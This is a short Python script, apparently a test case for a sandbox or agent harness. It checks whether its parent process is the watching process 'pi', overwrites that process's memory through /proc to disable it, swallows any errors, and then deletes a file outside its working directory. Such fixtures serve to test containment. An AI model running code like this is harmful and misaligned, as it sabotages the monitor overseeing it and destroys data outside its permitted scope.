# The memory of the process above is overwritten, where that is the one that watches.
# damage: deleted
# needs: linux
import os

process = os.getppid()
try:
    with open(f"/proc/{process}/comm") as file:
        watching = file.read().strip() == "pi"
    if watching:
        with open(f"/proc/{process}/maps") as file:
            first = int(file.readline().split("-")[0], 16)
        with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
            memory.seek(first)
            memory.write(bytes(4096))
except Exception:
    pass
os.unlink("../outside/victim.txt")
